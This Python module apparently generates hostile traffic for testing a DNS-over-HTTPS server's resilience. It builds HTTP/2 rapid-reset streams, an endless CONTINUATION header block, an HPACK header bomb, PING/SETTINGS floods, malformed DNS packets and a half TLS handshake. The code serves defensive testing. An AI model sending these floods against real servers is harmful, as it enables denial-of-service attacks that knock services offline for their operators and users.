"""What attackers send: octets of one connection of HTTP/2, each with how many units it is; packets; half a handshake."""

import ssl
import struct

import wire
from hpack import Encoder

PATH = "/dns-query?dns=AAABAAABAAAAAAAABXJlZGlzB2RlZmF1bHQFbm9tYWQAAAEAAQ"


def client_hello():
    """The first message of a TLS client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def malformed(seeded, count):
    """Packets: random ones, and queries with octets changed or cut off."""
    good = wire.query("redis.default.nomad", edns=1232)
    for number in range(count):
        octets = bytearray(good if number % 2 else seeded.randbytes(seeded.randrange(600)))
        for _ in range(seeded.randrange(4)):
            if octets:
                octets[seeded.randrange(len(octets))] = seeded.randrange(256)
        yield bytes(octets[: seeded.randrange(len(octets) + 1)] if number % 5 == 0 else octets)


def rapid_reset(count):
    """Streams that are opened and reset at once."""
    encoder = Encoder()
    for first in range(0, count, 50):
        yield b"".join(
            wire.frame(wire.HEADERS, wire.END_STREAM | wire.END_HEADERS, stream, encoder.encode(wire.get(PATH)))
            + wire.frame(wire.RST_STREAM, 0, stream, struct.pack("!I", 8))
            for stream in range(2 * first + 1, 2 * (first + 50) + 1, 2)
        ), 50


def continuation(count):
    """A header block that never ends."""
    yield wire.frame(wire.HEADERS, wire.END_STREAM, 1, Encoder().encode(wire.get(PATH))), 1
    for number in range(count):
        yield wire.frame(wire.CONTINUATION, 0, 1, b"\0\4x%03d\1y" % (number % 1000) + b"\0\1a\0" * 400), 1


def header_bomb(count):
    """One large field of the dynamic table, referred to again and again."""
    encoder = Encoder()
    first = encoder.encode(wire.get(PATH)) + b"\x40\x05x-big\x7f" + bytes([0x80 | (3000 - 127) & 0x7F, (3000 - 127) >> 7])
    yield wire.frame(wire.HEADERS, wire.END_STREAM | wire.END_HEADERS, 1, first + b"A" * 3000), 1
    block = encoder.encode(wire.get(PATH))
    for stream in range(3, 2 * count, 2):
        yield wire.frame(wire.HEADERS, wire.END_STREAM | wire.END_HEADERS, stream, block + b"\xbe" * 16000), 1


def control_frames(count):
    """Pings and settings, each of which wants an answer."""
    both = wire.frame(wire.PING, 0, 0, b"12345678") + wire.frame(wire.SETTINGS, 0, 0, struct.pack("!HI", 4, 65535))
    for _ in range(0, count, 100):
        yield both * 50, 100
